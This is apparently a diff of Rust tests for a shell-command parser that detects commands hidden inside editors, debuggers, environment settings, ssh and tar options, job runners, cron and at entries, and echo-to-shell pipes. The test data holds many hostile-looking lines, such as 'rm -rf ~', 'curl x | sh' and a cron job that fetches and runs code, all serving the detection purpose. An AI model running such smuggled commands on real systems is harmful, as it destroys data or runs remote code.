@@ -24,6 +24,10 @@ fn show(c: &Command) -> String {
         Via::FindExec => "exec",
         Via::HereDoc => "heredoc",
         Via::Group => "group",
+        Via::Setting => "set",
+        Via::Editor => "editor",
+        Via::Runs => "runs",
+        Via::Later => "later",
     };
     let parent = c.parent.map(|p| format!("^{p}")).unwrap_or_default();
     let words: Vec<String> = c.words.iter().map(|w| show_word(w)).collect();
@@ -296,7 +300,10 @@ fn substitutions() {
             "sub^0 1.0 a",
             "sub^0 1.1 b",
             "top 0.1 sh",
-            "top 2.0 ls",
+            "heredoc^3 2.0 «$(a | b)»",
+            "sub^4 3.0 a",
+            "sub^4 3.1 b",
+            "top 4.0 ls",
         ],
         false,
     )]);
@@ -377,7 +384,7 @@ fn shell_c_and_friends() {
         ),
         (
             "busybox sh -c 'rm a'",
-            &["top 0.0 busybox sh -c «rm a»", "shc^0 1.0 rm a"],
+            &["top 0.0 sh -c «rm a»", "shc^0 1.0 rm a"],
             false,
         ),
         (
@@ -1279,4 +1286,676 @@ fn brace_expansion() {
         ids, 1,
         "a group's here-document substitutions are read once: {line:?}"
     );
+}
+
+#[test]
+fn editors_and_debuggers() {
+    check(&[
+        (
+            "vim -c ':!rm -rf ~' x",
+            &["top 0.0 vim -c «:!rm -rf ~» x", "editor^0 1.0 rm -rf ~"],
+            false,
+        ),
+        (
+            "nvim +'!rm -rf ~' +q",
+            &["top 0.0 nvim «+!rm -rf ~» +q", "editor^0 1.0 rm -rf ~"],
+            false,
+        ),
+        (
+            "vi -c 'silent !curl x | sh' -c q",
+            &[
+                "top 0.0 vi -c «silent !curl x | sh» -c q",
+                "editor^0 1.0 curl x",
+                "editor^0 1.1 sh",
+            ],
+            false,
+        ),
+        (
+            "vim -c 'set nu | %!sort' -c 'r !id' -c 'w !tee /etc/x' f",
+            &[
+                "top 0.0 vim -c «set nu | %!sort» -c «r !id» -c «w !tee /etc/x» f",
+                "editor^0 1.0 sort",
+                "editor^0 2.0 id",
+                "editor^0 3.0 tee /etc/x",
+            ],
+            false,
+        ),
+        (
+            "vim --cmd 'call system(\"rm -rf /srv\")' -c 'terminal ++close rm x'",
+            &[
+                "top 0.0 vim --cmd «call system(\"rm -rf /srv\")» -c «terminal ++close rm x»",
+                "editor^0 1.0 rm -rf /srv",
+                "editor^0 2.0 rm x",
+            ],
+            false,
+        ),
+        (
+            "ex -c 'exe \"!id\"' f",
+            &["top 0.0 ex -c «exe \"!id\"» f", "editor^0 1.0 id"],
+            false,
+        ),
+        (
+            "gdb -batch -ex 'shell rm -rf ~' -ex '!id' --ex='pipe bt | tee /tmp/x'",
+            &[
+                "top 0.0 gdb -batch -ex «shell rm -rf ~» -ex !id «--ex=pipe bt | tee /tmp/x»",
+                "editor^0 1.0 rm -rf ~",
+                "editor^0 2.0 id",
+                "editor^0 3.0 tee /tmp/x",
+            ],
+            false,
+        ),
+        (
+            "gdb -q --args ./app rm x",
+            &["top 0.0 gdb -q --args ./app rm x", "runs^0 1.0 ./app rm x"],
+            false,
+        ),
+        (
+            "less '+!rm -rf ~' f",
+            &["top 0.0 less «+!rm -rf ~» f", "editor^0 1.0 rm -rf ~"],
+            false,
+        ),
+        // Routine: nothing runs.
+        (
+            "echo '!rm -rf ~' | vim -es",
+            &[
+                "top 0.0 echo «!rm -rf ~»",
+                "top 0.1 vim -es",
+                "editor^1 1.0 rm -rf ~",
+            ],
+            false,
+        ),
+        (
+            "ex -s f <<'EOF'\n%s/a/b/g\nr !id\nwq\nEOF",
+            &["top 0.0 ex -s f", "editor^0 1.0 id"],
+            false,
+        ),
+        ("vim file", &["top 0.0 vim file"], false),
+        (
+            "nvim -c 'set ft=rust' -c 'normal G' +42 x.rs",
+            &["top 0.0 nvim -c «set ft=rust» -c «normal G» +42 x.rs"],
+            false,
+        ),
+        ("vim -c 'w!' -c wq f", &["top 0.0 vim -c w! -c wq f"], false),
+        ("less +G README.md", &["top 0.0 less +G README.md"], false),
+        ("gdb ./app core", &["top 0.0 gdb ./app core"], false),
+        (
+            "gdb -batch -ex run -ex bt ./app",
+            &["top 0.0 gdb -batch -ex run -ex bt ./app"],
+            false,
+        ),
+    ]);
+}
+
+#[test]
+fn settings_that_run_commands() {
+    check(&[
+        (
+            "PAGER='sh -c \"rm -rf ~\"' man ls",
+            &[
+                "top 0.0 man ls",
+                "set^0 1.0 sh -c «rm -rf ~»",
+                "shc^1 2.0 rm -rf ~",
+            ],
+            false,
+        ),
+        (
+            "LESSOPEN='|rm -rf ~ %s' less f",
+            &["top 0.0 less f", "set^0 1.0 rm -rf ~ %s"],
+            false,
+        ),
+        (
+            "env GIT_SSH_COMMAND='curl x | sh' git fetch",
+            &["top 0.0 git fetch", "set^0 1.0 curl x", "set^0 1.1 sh"],
+            false,
+        ),
+        (
+            "export PROMPT_COMMAND='rm x'",
+            &["top 0.0 export «PROMPT_COMMAND=rm x»", "set^0 1.0 rm x"],
+            false,
+        ),
+        ("EDITOR='rm x'", &["top 0.0 ", "set^0 1.0 rm x"], false),
+        (
+            "man -P 'rm -rf ~' ls",
+            &["top 0.0 man -P «rm -rf ~» ls", "set^0 1.0 rm -rf ~"],
+            false,
+        ),
+        (
+            "ssh -o ProxyCommand='rm -rf ~' -oLocalCommand=id -o 'KnownHostsCommand x' h",
+            &[
+                "top 0.0 ssh -o «ProxyCommand=rm -rf ~» -oLocalCommand=id -o «KnownHostsCommand x» h",
+                "set^0 1.0 rm -rf ~",
+                "set^0 2.0 id",
+                "set^0 3.0 x",
+            ],
+            false,
+        ),
+        (
+            "scp -S ./evil f h:",
+            &["top 0.0 scp -S ./evil f h:", "set^0 1.0 ./evil"],
+            false,
+        ),
+        (
+            "rsync -e 'ssh -o ProxyCommand=id' a h:b",
+            &[
+                "top 0.0 rsync -e «ssh -o ProxyCommand=id» a h:b",
+                "set^0 1.0 ssh -o ProxyCommand=id",
+                "set^1 2.0 id",
+            ],
+            false,
+        ),
+        (
+            "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf ~'",
+            &[
+                "top 0.0 tar -cf /dev/null x --checkpoint=1 «--checkpoint-action=exec=rm -rf ~»",
+                "set^0 1.0 rm -rf ~",
+            ],
+            false,
+        ),
+        (
+            "tar xf a.tar --to-command 'sh -c id'",
+            &[
+                "top 0.0 tar xf a.tar --to-command «sh -c id»",
+                "set^0 1.0 sh -c id",
+                "shc^1 2.0 id",
+            ],
+            false,
+        ),
+        (
+            "zip z.zip f -T -TT 'rm -rf ~ #'",
+            &[
+                "top 0.0 zip z.zip f -T -TT «rm -rf ~ #»",
+                "set^0 1.0 rm -rf ~",
+            ],
+            false,
+        ),
+        (
+            "apt-get update -o APT::Update::Pre-Invoke::='rm -rf ~'",
+            &[
+                "top 0.0 apt-get update -o «APT::Update::Pre-Invoke::=rm -rf ~»",
+                "set^0 1.0 rm -rf ~",
+            ],
+            false,
+        ),
+        // Routine: values that are not commands, or commands that only read.
+        (
+            "PAGER=cat git log",
+            &["top 0.0 git log", "set^0 1.0 cat"],
+            false,
+        ),
+        ("FOO='rm -rf ~' make", &["top 0.0 make"], false),
+        (
+            "ssh -o StrictHostKeyChecking=no -o ProxyCommand=none h",
+            &["top 0.0 ssh -o StrictHostKeyChecking=no -o ProxyCommand=none h"],
+            false,
+        ),
+        (
+            "apt-get -o Dpkg::Options::=--force-confold install -y jq",
+            &["top 0.0 apt-get -o Dpkg::Options::=--force-confold install -y jq"],
+            false,
+        ),
+        (
+            "tar -xzf a.tgz -C /tmp",
+            &["top 0.0 tar -xzf a.tgz -C /tmp"],
+            false,
+        ),
+        ("man ls", &["top 0.0 man ls"], false),
+    ]);
+}
+
+#[test]
+fn runners() {
+    check(&[
+        (
+            "parallel rm -rf ::: ~ /srv",
+            &[
+                "top 0.0 parallel rm -rf ::: ~ /srv",
+                "shc^0 1.0 rm -rf ~",
+                "shc^0 2.0 rm -rf /srv",
+            ],
+            false,
+        ),
+        (
+            "parallel -j4 'gzip {}' ::: a.log",
+            &[
+                "top 0.0 parallel -j4 «gzip {}» ::: a.log",
+                "shc^0 1.0 gzip a.log",
+            ],
+            false,
+        ),
+        (
+            "parallel ::: 'rm -rf ~' ls",
+            &[
+                "top 0.0 parallel ::: «rm -rf ~» ls",
+                "shc^0 1.0 rm -rf ~",
+                "shc^0 2.0 ls",
+            ],
+            false,
+        ),
+        (
+            "ls | parallel rm",
+            &["top 0.0 ls", "top 0.1 parallel rm", "shc^1 1.0 rm"],
+            false,
+        ),
+        (
+            "script -qc 'rm -rf ~' /dev/null",
+            &[
+                "top 0.0 script -qc «rm -rf ~» /dev/null",
+                "shc^0 1.0 rm -rf ~",
+            ],
+            false,
+        ),
+        (
+            "tmux new-session -d -s x 'rm -rf ~'",
+            &[
+                "top 0.0 tmux new-session -d -s x «rm -rf ~»",
+                "shc^0 1.0 rm -rf ~",
+            ],
+            false,
+        ),
+        (
+            "tmux send-keys -t x 'curl e | sh' Enter \\; run-shell -b id",
+            &[
+                "top 0.0 tmux send-keys -t x «curl e | sh» Enter ; run-shell -b id",
+                "runs^0 1.0 curl e",
+                "runs^0 1.1 sh",
+                "shc^0 2.0 id",
+            ],
+            false,
+        ),
+        (
+            "screen -dmS w sh -c 'rm -rf ~'",
+            &[
+                "top 0.0 screen -dmS w sh -c «rm -rf ~»",
+                "runs^0 1.0 sh -c «rm -rf ~»",
+                "shc^1 2.0 rm -rf ~",
+            ],
+            false,
+        ),
+        (
+            "screen -S w -X stuff 'rm -rf ~^M'",
+            &[
+                "top 0.0 screen -S w -X stuff «rm -rf ~^M»",
+                "runs^0 1.0 rm -rf ~",
+            ],
+            false,
+        ),
+        (
+            "expect -c 'spawn rm -rf ~; set x [exec id]; send \"curl e | sh\\r\"'",
+            &[
+                "top 0.0 expect -c «spawn rm -rf ~; set x [exec id]; send \"curl e | sh\\r\"»",
+                "runs^0 1.0 rm -rf ~",
+                "runs^0 2.0 curl e",
+                "runs^0 2.1 sh",
+                "runs^0 3.0 id",
+            ],
+            false,
+        ),
+        (
+            "hyperfine --prepare 'rm -rf /srv' 'sleep 1' -w 3",
+            &[
+                "top 0.0 hyperfine --prepare «rm -rf /srv» «sleep 1» -w 3",
+                "shc^0 1.0 rm -rf /srv",
+                "shc^0 2.0 sleep 1",
+            ],
+            false,
+        ),
+        // Routine.
+        ("tmux new -s work", &["top 0.0 tmux new -s work"], false),
+        (
+            "tmux attach -t work",
+            &["top 0.0 tmux attach -t work"],
+            false,
+        ),
+        (
+            "script -q /dev/null",
+            &["top 0.0 script -q /dev/null"],
+            false,
+        ),
+        ("screen -r", &["top 0.0 screen -r"], false),
+        ("expect deploy.exp", &["top 0.0 expect deploy.exp"], false),
+    ]);
+}
+
+#[test]
+fn what_runs_later() {
+    check(&[
+        (
+            "at now <<< 'rm -rf ~'",
+            &["top 0.0 at now", "later^0 1.0 rm -rf ~"],
+            false,
+        ),
+        (
+            "echo 'rm -rf ~' | at now + 1 minute",
+            &[
+                "top 0.0 echo «rm -rf ~»",
+                "top 0.1 at now + 1 minute",
+                "later^1 1.0 rm -rf ~",
+            ],
+            false,
+        ),
+        (
+            "echo '*/5 * * * * curl -s e | sh' | crontab -",
+            &[
+                "top 0.0 echo «*/5 * * * * curl -s e | sh»",
+                "top 0.1 crontab -",
+                "later^1 1.0 curl -s e",
+                "later^1 1.1 sh",
+            ],
+            false,
+        ),
+        (
+            "crontab - <<'EOF'\nSHELL=/bin/sh\n# x\n@reboot rm -rf ~\n0 3 * * * date > /tmp/d%x\nEOF",
+            &[
+                "top 0.0 crontab -",
+                "later^0 1.0 rm -rf ~",
+                "later^0 2.0 date",
+            ],
+            false,
+        ),
+        (
+            "systemd-run --user --on-calendar=daily rm -rf ~",
+            &[
+                "top 0.0 systemd-run --user --on-calendar=daily rm -rf ~",
+                "later^0 1.0 rm -rf ~",
+            ],
+            false,
+        ),
+        (
+            "systemd-run --on-active 30 -p User=x rm x",
+            &[
+                "top 0.0 systemd-run --on-active 30 -p User=x rm x",
+                "later^0 1.0 rm x",
+            ],
+            false,
+        ),
+        ("at -l", &["top 0.0 at -l"], false),
+        ("at -f job.sh now", &["top 0.0 at -f job.sh now"], false),
+        ("crontab -l", &["top 0.0 crontab -l"], false),
+        ("crontab jobs.txt", &["top 0.0 crontab jobs.txt"], false),
+    ]);
+}
+
+#[test]
+fn what_echo_pipes_into_a_shell() {
+    check(&[
+        (
+            "echo 'rm -rf ~' | sh",
+            &[
+                "top 0.0 echo «rm -rf ~»",
+                "top 0.1 sh",
+                "heredoc^1 1.0 rm -rf ~",
+            ],
+            false,
+        ),
+        (
+            "printf 'cd /\\nrm -rf %s\\n' srv | bash -s",
+            &[
+                "top 0.0 printf «cd /\\nrm -rf %s\\n» srv",
+                "top 0.1 bash -s",
+                "heredoc^1 1.0 cd /",
+                "heredoc^1 2.0 rm -rf srv",
+            ],
+            false,
+        ),
+        (
+            "echo -e 'spawn rm x' | expect",
+            &[
+                "top 0.0 echo -e «spawn rm x»",
+                "top 0.1 expect",
+                "runs^1 1.0 rm x",
+            ],
+            false,
+        ),
+        // Not piped to what reads commands, or not what echo writes.
+        (
+            "echo 'rm x' | cat",
+            &["top 0.0 echo «rm x»", "top 0.1 cat"],
+            false,
+        ),
+        (
+            "echo 'rm x' > f | sh",
+            &["top 0.0 echo «rm x»", "top 0.1 sh"],
+            false,
+        ),
+        (
+            "echo 'rm x' | grep r | sh",
+            &["top 0.0 echo «rm x»", "top 0.1 grep r", "top 0.2 sh"],
+            false,
+        ),
+        (
+            "echo hi | bash script.sh",
+            &["top 0.0 echo hi", "top 0.1 bash script.sh"],
+            false,
+        ),
+    ]);
+}
+
+/// One example for every wrapper in the catalogue: how it is written around `rm -rf /x`.
+#[rustfmt::skip]
+const WRAPPER_EXAMPLES: &[(&str, &str)] = &[
+    ("builtin", "builtin rm -rf /x"),
+    ("busybox", "busybox rm -rf /x"),
+    ("caffeinate", "caffeinate -i rm -rf /x"),
+    ("chronic", "chronic rm -rf /x"),
+    ("chroot", "chroot --userspec=a:b / rm -rf /x"),
+    ("chrt", "chrt -f 10 rm -rf /x"),
+    ("command", "command rm -rf /x"),
+    ("doas", "doas -u root rm -rf /x"),
+    ("entr", "entr -r rm -rf /x"),
+    ("env", "env -i A=1 rm -rf /x"),
+    ("exec", "exec -a name rm -rf /x"),
+    ("fakeroot", "fakeroot rm -rf /x"),
+    ("faketime", "faketime '2020-01-01' rm -rf /x"),
+    ("firejail", "firejail --noprofile rm -rf /x"),
+    ("flock", "flock -w 5 /tmp/l rm -rf /x"),
+    ("gosu", "gosu app rm -rf /x"),
+    ("ionice", "ionice -c 3 rm -rf /x"),
+    ("ltrace", "ltrace -o /dev/null rm -rf /x"),
+    ("nice", "nice -n 5 rm -rf /x"),
+    ("nocorrect", "nocorrect rm -rf /x"),
+    ("noglob", "noglob rm -rf /x"),
+    ("nohup", "nohup rm -rf /x"),
+    ("nsenter", "nsenter -t 1 -m -u rm -rf /x"),
+    ("parallel", "parallel -j2 rm -rf ::: /x"),
+    ("pkexec", "pkexec --user root rm -rf /x"),
+    ("proxychains", "proxychains4 rm -rf /x"),
+    ("run0", "run0 -u root rm -rf /x"),
+    ("runuser", "runuser -u bob -- rm -rf /x"),
+    ("setsid", "setsid -f rm -rf /x"),
+    ("sshpass", "sshpass -p pw rm -rf /x"),
+    ("stdbuf", "stdbuf -oL rm -rf /x"),
+    ("strace", "strace -f -o /dev/null rm -rf /x"),
+    ("su-exec", "su-exec app rm -rf /x"),
+    ("sudo", "sudo -u root rm -rf /x"),
+    ("systemd-run", "systemd-run --user -p Nice=5 rm -rf /x"),
+    ("taskset", "taskset -c 0 rm -rf /x"),
+    ("time", "time -p rm -rf /x"),
+    ("timeout", "timeout -s KILL 5 rm -rf /x"),
+    ("torsocks", "torsocks -i rm -rf /x"),
+    ("unbuffer", "unbuffer rm -rf /x"),
+    ("unshare", "unshare -r rm -rf /x"),
+    ("valgrind", "valgrind --leak-check=full rm -rf /x"),
+    ("watch", "watch -n 1 rm -rf /x"),
+    ("watchexec", "watchexec -e rs -- rm -rf /x"),
+    ("xargs", "xargs -0 rm -rf /x"),
+];
+
+#[test]
+fn every_wrapper_is_read() {
+    use crate::catalogue::{CATALOGUE, Class};
+    let wrappers: Vec<&str> = CATALOGUE
+        .iter()
+        .filter(|p| p.is(Class::Wrapper))
+        .map(|p| p.name)
+        .collect();
+    let named: Vec<&str> = WRAPPER_EXAMPLES.iter().map(|(name, _)| *name).collect();
+    assert_eq!(
+        named, wrappers,
+        "one example for each wrapper, in catalogue order"
+    );
+    for (name, example) in WRAPPER_EXAMPLES {
+        let line = Line::parse(example);
+        let inner = line
+            .commands
+            .iter()
+            .find(|c| c.words == ["rm", "-rf", "/x"]);
+        let taken_off = inner.is_some_and(|c| c.wrappers.iter().any(|w| w == name));
+        let held = inner.is_some_and(|c| {
+            c.parent
+                .and_then(|p| line.commands.get(p))
+                .is_some_and(|holder| holder.program() == *name)
+        });
+        assert!(
+            taken_off || held,
+            "{name}: `rm -rf /x` is neither taken off nor held in {example:?}: {:?}",
+            shown(&line)
+        );
+        assert_eq!(line.unknown, None, "{example:?}");
+    }
+}
+
+#[test]
+fn wrappers_that_run_nothing_stay_the_program() {
+    for (input, program) in [
+        ("strace -p 123", "strace"),
+        ("taskset -p 3 123", "taskset"),
+        ("chrt -p 123", "chrt"),
+        ("runuser bob -c 'id'", "runuser"),
+        ("chroot /mnt", "chroot"),
+        ("nsenter -t 1 -m", "nsenter"),
+        ("systemd-run --on-calendar=daily touch x", "systemd-run"),
+    ] {
+        assert_eq!(first(input).program(), program, "{input:?}");
+    }
+    assert!(
+        first("nsenter -t 1 -m sh").sudo,
+        "nsenter needs the administrator"
+    );
+    assert!(first("chroot / sh").sudo, "chroot needs the administrator");
+    assert!(
+        first("systemd-run rm x").sudo,
+        "systemd-run on the system's manager"
+    );
+    assert!(!first("systemd-run --user rm x").sudo, "systemd-run --user");
+    assert!(
+        !first("systemd-run --scope make").sudo,
+        "systemd-run --scope"
+    );
+    check(&[
+        (
+            "watchexec -e rs 'cargo test && ./run'",
+            &[
+                "top 0.0 watchexec -e rs «cargo test && ./run»",
+                "shc^0 1.0 cargo test",
+                "shc^0 2.0 ./run",
+            ],
+            false,
+        ),
+        (
+            "ls | entr -s 'make && ./app'",
+            &[
+                "top 0.0 ls",
+                "top 0.1 entr -s «make && ./app»",
+                "shc^1 1.0 make",
+                "shc^1 2.0 ./app",
+            ],
+            false,
+        ),
+    ]);
+}
+
+#[test]
+fn runner_tables_are_sorted_and_unique() {
+    for (name, table) in [
+        ("COMMAND_VARIABLES", super::runs::COMMAND_VARIABLES),
+        ("SSH_COMMAND_KEYS", super::runs::SSH_COMMAND_KEYS),
+        ("APT_COMMAND_KEYS", super::runs::APT_COMMAND_KEYS),
+    ] {
+        for pair in table.windows(2) {
+            if let [a, b] = pair {
+                assert!(a < b, "{name}: {a} must come before {b}");
+            }
+        }
+    }
+    for key in super::runs::SSH_COMMAND_KEYS
+        .iter()
+        .chain(super::runs::APT_COMMAND_KEYS)
+    {
+        assert_eq!(*key, key.to_ascii_lowercase(), "{key}");
+    }
+}
+
+#[test]
+fn crontabs_and_tcl_scripts() {
+    let table = "MAILTO=x\n*/5 * * * *  /usr/bin/backup --all\n@daily rm -rf /tmp/x\n\n# c\n1 2 3 4 5 echo 50\\% done % stdin";
+    assert_eq!(
+        super::runs::crontab_commands(table),
+        "/usr/bin/backup --all\nrm -rf /tmp/x\necho 50% done "
+    );
+    assert_eq!(
+        super::runs::tcl_commands(
+            "spawn -noecho ssh h; expect \"$ \"; send -- \"ls\\r\"\nexec sh -c {rm -rf ~} | tee x"
+        ),
+        "ssh h\nls\n\nsh -c 'rm -rf ~' | tee x"
+    );
+    assert_eq!(
+        super::runs::ex_escapes("set a | silent! !rm x | echo"),
+        vec!["rm x | echo".to_string()]
+    );
+}
+
+#[test]
+fn runners_stay_linear() {
+    let inputs = [
+        "echo a | sh | ".repeat(6_000),
+        "vim -c '!a' ".repeat(8_000),
+        format!(
+            "parallel {} ::: {}",
+            "a ".repeat(20_000),
+            "b ".repeat(10_000)
+        ),
+        "parallel a ::: b ".repeat(6_000),
+        format!("tmux send-keys {}", "x Enter \\; ".repeat(8_000)),
+        format!("expect -c '{}'", "[".repeat(30_000)),
+        format!("expect -c '{}'", "spawn a; ".repeat(8_000)),
+        "PAGER=a ".repeat(12_000),
+        format!("printf '{}' {}", "%s".repeat(2_000), "a ".repeat(20_000)),
+        format!("crontab - <<E\n{}E\n", "* * * * * a\n".repeat(8_000)),
+        "gdb -ex '!a' ".repeat(8_000),
+        format!("vim -c '{}'", "exe \"".repeat(10_000)),
+    ];
+    for input in &inputs {
+        let start = std::time::Instant::now();
+        let line = Line::parse(input);
+        let took = start.elapsed();
+        let head: String = input.chars().take(20).collect();
+        assert!(
+            took.as_millis() < 2_000,
+            "{head:?}… ({} bytes) took {took:?}",
+            input.len()
+        );
+        assert!(
+            line.commands.len() <= 2 * input.len() + 8,
+            "{head:?}…: {} commands",
+            line.commands.len()
+        );
+    }
+}
+
+#[test]
+fn every_reader_is_of_a_program_that_runs_others() {
+    use crate::catalogue::{self, Class};
+    let readers = super::runs::READERS;
+    for pair in readers.windows(2) {
+        if let [(a, _), (b, _)] = pair {
+            assert!(a < b, "READERS: {a} must come before {b}");
+        }
+    }
+    for (name, _) in readers {
+        assert!(
+            catalogue::is(name, Class::Runs) || catalogue::is(name, Class::Wrapper),
+            "{name} has a reader but the catalogue doesn't say it runs others"
+        );
+        assert_eq!(catalogue::name(name), *name, "{name} is a family's name");
+    }
 }
